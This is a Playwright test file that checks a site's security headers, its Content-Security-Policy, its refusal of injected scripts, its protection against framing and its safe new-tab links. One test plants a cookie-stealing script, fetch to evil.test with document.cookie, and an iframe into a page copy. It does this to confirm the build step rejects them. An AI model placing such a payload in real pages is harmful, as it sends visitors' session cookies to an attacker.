/** The response headers and the Content-Security-Policy, as a reader's browser meets them. */
import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { pageTypes } from './content';

const vercelHeaders: { key: string; value: string }[] = JSON.parse(readFileSync('vercel.json', 'utf8')).headers[0].headers;

/** Records CSP violations from the first script on, before the page's own code runs. */
async function watchViolations(page: import('@playwright/test').Page) {
  await page.addInitScript(() => {
    (window as unknown as { violations: string[] }).violations = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      (window as unknown as { violations: string[] }).violations.push(`${event.violatedDirective} ${event.blockedURI}`),
    );
  });
}

for (const [name, path] of Object.entries(pageTypes)) {
  test(`the ${name} page sends the security headers and loads with no CSP violation or console error`, async ({ page }) => {
    const errors: string[] = [];
    page.on('console', (message) => message.type() === 'error' && errors.push(message.text()));
    page.on('pageerror', (error) => errors.push(error.message));
    await watchViolations(page);
    const response = await page.goto(path, { waitUntil: 'networkidle' });
    const headers = response!.headers();
    for (const { key, value } of vercelHeaders) expect(headers[key.toLowerCase()], key).toBe(value);
    if (path.startsWith('/search')) await expect(page.getByRole('status')).toContainText('results for');
    // A 404 answer is logged by Chromium as a console error; that one is the point of the page.
    const unexpected = errors.filter((text) => !(name === 'not found' && text.includes('404')));
    expect(unexpected).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { violations: string[] }).violations)).toEqual([]);
  });
}

test('an inline script the page did not ship is refused', async ({ page }) => {
  await watchViolations(page);
  await page.goto('/');
  const ran = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.body.append(script);
    return (window as unknown as { injected?: boolean }).injected === true;
  });
  expect(ran).toBe(false);
  await expect.poll(() => page.evaluate(() => (window as unknown as { violations: string[] }).violations.join(' '))).toContain('script-src');
});

test('the script-pinning step fails the build on a page holding a script or frame the site did not write, naming it', () => {
  const dir = mkdtempSync(join(tmpdir(), 'pin-'));
  try {
    for (const page of ['index.html', 'about.html', 'search.html']) cpSync(join('out', page), join(dir, page));
    const clean = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/pin-inline-scripts.ts', dir], { encoding: 'utf8' });
    expect(clean.status, clean.stderr).toBe(0);

    const about = readFileSync(join(dir, 'about.html'), 'utf8');
    writeFileSync(join(dir, 'about.html'), about.replace('</main>', '<script>fetch("https://evil.test/?c="+document.cookie)</script><iframe src="https://evil.test"></iframe></main>'));
    const home = readFileSync(join(dir, 'index.html'), 'utf8');
    const refused = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/pin-inline-scripts.ts', dir], { encoding: 'utf8' });
    expect(refused.status).toBe(1);
    expect(refused.stderr).toContain(`${join(dir, 'about.html')}: an inline script the site did not write: "fetch(\\"https://evil.test/?c=\\"+document.cookie)"`);
    expect(refused.stderr).toContain(`${join(dir, 'about.html')}: <iframe> loading "https://evil.test"`);
    expect(refused.stderr).not.toContain('index.html');
    // Nothing is pinned when anything is refused.
    expect(readFileSync(join(dir, 'index.html'), 'utf8')).toBe(home);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the site cannot be framed by another', async ({ request }) => {
  const response = await request.get('/');
  expect(response.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
});

test('no page of out/ opens a link in a new tab without rel="noopener noreferrer"', () => {
  const pages = readdirSync('out', { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && entry.name.endsWith('.html'))
    .map((entry) => join(entry.parentPath, entry.name));
  expect(pages.length).toBeGreaterThan(10);
  const unsafe = pages.flatMap((page) =>
    [...readFileSync(page, 'utf8').matchAll(/<a\b[^>]*\btarget="_blank"[^>]*>/g)]
      .map(([tag]) => tag)
      .filter((tag) => !/\brel="[^"]*\bnoopener\b[^"]*"/.test(tag) || !/\brel="[^"]*\bnoreferrer\b[^"]*"/.test(tag))
      .map((tag) => `${page}: ${tag}`),
  );
  expect(unsafe).toEqual([]);
});
